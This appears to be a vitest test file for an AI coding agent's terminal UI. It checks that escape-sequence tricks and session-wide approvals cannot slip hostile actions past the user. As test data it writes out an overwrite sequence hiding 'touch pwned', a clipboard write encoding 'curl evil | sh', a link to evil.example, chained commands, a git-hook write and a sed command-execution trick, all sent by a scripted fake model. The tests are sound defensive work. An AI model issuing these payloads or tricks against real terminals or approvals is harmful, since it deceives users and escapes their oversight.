// Attacks on what the user sees in the TUI: escape sequences in a command, model text and file
// contents must not repaint the approval dialog or the screen, and "yes for this session" on one
// command must not approve a chained one, a guarded file, a path outside the workspace, an
// interpreter or network tool, or a fetch from another origin.
import {existsSync} from 'node:fs';
import path from 'node:path';
import {afterEach, beforeAll, describe, expect, it} from 'vitest';
import {startFakeModel, type FakeModel, type ScriptedResponse} from '../../fixtures/fake-model/server.js';
import {requireTmux, startTerminal, type Terminal} from '../../fixtures/terminal/tmux.js';
import {startAttacker, type Attacker} from '../helpers/attacker.js';
import {alexBin} from '../helpers/run-alex.js';
import {tempRepo, type TempRepo} from '../helpers/workspace.js';

let fake: FakeModel | undefined;
let repo: TempRepo | undefined;
let terminal: Terminal | undefined;
let attackers: Attacker[] = [];

beforeAll(() => {
  requireTmux();
});

afterEach(async () => {
  terminal?.close();
  await fake?.close();
  repo?.cleanup();
  await Promise.all(attackers.map(attacker => attacker.close()));
  terminal = undefined;
  fake = undefined;
  repo = undefined;
  attackers = [];
});

async function openTui(responses: ScriptedResponse[], files: Record<string, string> = {}): Promise<Terminal> {
  repo = tempRepo(files);
  fake = await startFakeModel(responses);
  terminal = await startTerminal({
    command: process.execPath,
    args: [alexBin],
    cwd: repo.dir,
    env: {PATH: process.env.PATH, HOME: repo.home, ALEX_HOME: repo.home, OPENAI_API_KEY: 'sk-test-key-0123456789abcdef', OPENAI_BASE_URL: fake.url},
    columns: 120,
  });
  await terminal.waitForScreen(/❯[\s\S]*session /);
  return terminal;
}

const pause = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));

describe('escape sequences in the TUI', () => {
  it('shows a command with escapes made visible in the approval dialog, so the dialog cannot be repainted', async () => {
    // Erases the line and moves up, then writes a harmless-looking command over the real one.
    const command = 'touch pwned\u001B[2K\u001B[1A\r$ ls';
    const tty = await openTui([{toolCalls: [{name: 'bash', arguments: {command}}]}, {text: 'Declined.'}]);
    tty.type('tidy up');
    tty.press('Enter');
    const dialog = await tty.waitForScreen('y yes');
    expect(dialog).toContain('touch pwned^[[2K^[[1A^M$ ls');
    expect(tty.output()).not.toContain('\u001B[2K\u001B[1A\r$ ls');
    await decline(tty);
    await tty.waitForScreen('Declined.');
    expect(existsSync(path.join(repo!.dir, 'pwned'))).toBe(false);
  });

  it('never passes OSC 52 clipboard writes, OSC 8 links or title changes from model text and file contents to the terminal', async () => {
    const osc52 = '\u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
    const link = '\u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007';
    const title = '\u001B]0;owned\u0007';
    const tty = await openTui([{toolCalls: [{name: 'read_file', arguments: {path: 'notes.txt'}}]}, {text: `Done ${osc52}${link}${title} here.`}], {'notes.txt': `notes ${osc52} ${title}\n`});
    tty.type('read the notes');
    tty.press('Enter');
    await tty.waitForScreen(/Done .*here\./);
    const output = tty.output();
    expect(output).not.toContain('\u001B]52');
    expect(output).not.toContain('\u001B]8;');
    expect(output).not.toContain('\u001B]0;');
  });
});

describe('yes for this session', () => {
  it('covers later commands with the same program and subcommand, never a chained one', async () => {
    const tty = await openTui([
      {toolCalls: [{name: 'bash', arguments: {command: 'npm test --silent'}}]},
      {toolCalls: [{name: 'bash', arguments: {command: 'npm test'}}]},
      {toolCalls: [{name: 'bash', arguments: {command: 'npm test && touch pwned'}}]},
      {text: 'All done.'},
    ]);
    tty.type('check the repo');
    tty.press('Enter');
    const first = await tty.waitForScreen('y yes');
    expect(first).toContain('a yes to "npm test …" commands this session');
    await pause(350);
    tty.press('a');
    // The second call runs without a question; the chained third one asks. Its row can be drawn
    // a frame before its question, so wait for the question itself.
    const third = await tty.waitForScreen(/npm test && touch pwned[\s\S]*y yes/);
    expect(fake!.requests).toHaveLength(3);
    expect(third).not.toContain('a yes to');
    await decline(tty);
    await tty.waitForScreen('All done.');
    expect(existsSync(path.join(repo!.dir, 'pwned'))).toBe(false);
  });

  it('covers neither guarded files, paths outside, interpreters nor network tools, and web_fetch only for one origin', async () => {
    attackers = [await startAttacker(), await startAttacker()];
    const [docs, other] = attackers as [Attacker, Attacker];
    const bash = (command: string): ScriptedResponse => ({toolCalls: [{name: 'bash', arguments: {command}}]});
    const fetch = (url: string): ScriptedResponse => ({toolCalls: [{name: 'web_fetch', arguments: {url}}]});
    const tty = await openTui([
      bash('cp a.txt b.txt'),
      bash('cp a.txt c.txt'),
      bash('cp a.txt .git/hooks/pre-commit'),
      bash('cp a.txt ../outside.txt'),
      bash("sed -n '1e touch pwned' a.txt"),
      bash(`curl -s ${docs.url}/curl`),
      fetch(`${docs.url}/first`),
      fetch(`${docs.url}/second`),
      fetch(`${other.url}/leak`),
      {text: 'All done.'},
    ], {'a.txt': 'a\n'});
    tty.type('copy the file');
    tty.press('Enter');
    const first = await tty.waitForScreen('y yes');
    expect(first).toContain('a yes to "cp …" commands this session');
    await pause(350);
    tty.press('a');
    for (const command of ['cp a.txt .git/hooks/pre-commit', 'cp a.txt ../outside.txt', "sed -n '1e touch pwned' a.txt", `curl -s ${docs.url}/curl`]) {
      const dialog = await tty.waitForScreen(new RegExp(`${literal(command)}[\\s\\S]*y yes`));
      expect(dialog, command).not.toContain('a yes to');
      await decline(tty);
    }

    const fetching = await tty.waitForScreen(new RegExp(`${literal(docs.url)}/first[\\s\\S]*y yes`));
    expect(fetching).toContain(`a yes to web_fetch requests to ${docs.url} this session`);
    await pause(350);
    tty.press('a');
    // The second fetch from the same origin runs without a question; another port asks.
    const otherOrigin = await tty.waitForScreen(new RegExp(`${literal(other.url)}/leak[\\s\\S]*y yes`));
    expect(otherOrigin).toContain(`a yes to web_fetch requests to ${other.url} this session`);
    await decline(tty);
    await tty.waitForScreen('All done.');
    expect(existsSync(path.join(repo!.dir, 'c.txt'))).toBe(true);
    expect(existsSync(path.join(repo!.dir, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(path.join(repo!.dir, '..', 'outside.txt'))).toBe(false);
    expect(existsSync(path.join(repo!.dir, 'pwned'))).toBe(false);
    expect(docs.hits).toEqual(['/first', '/second']);
    expect(other.hits).toEqual([]);
  });
});

/** Answers no; waits for the reason prompt, so that "n" and Enter never reach alex as one input. */
async function decline(tty: Terminal): Promise<void> {
  await pause(350);
  tty.press('n');
  await tty.waitForScreen('Reason for the model');
  tty.press('Enter');
}

function literal(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
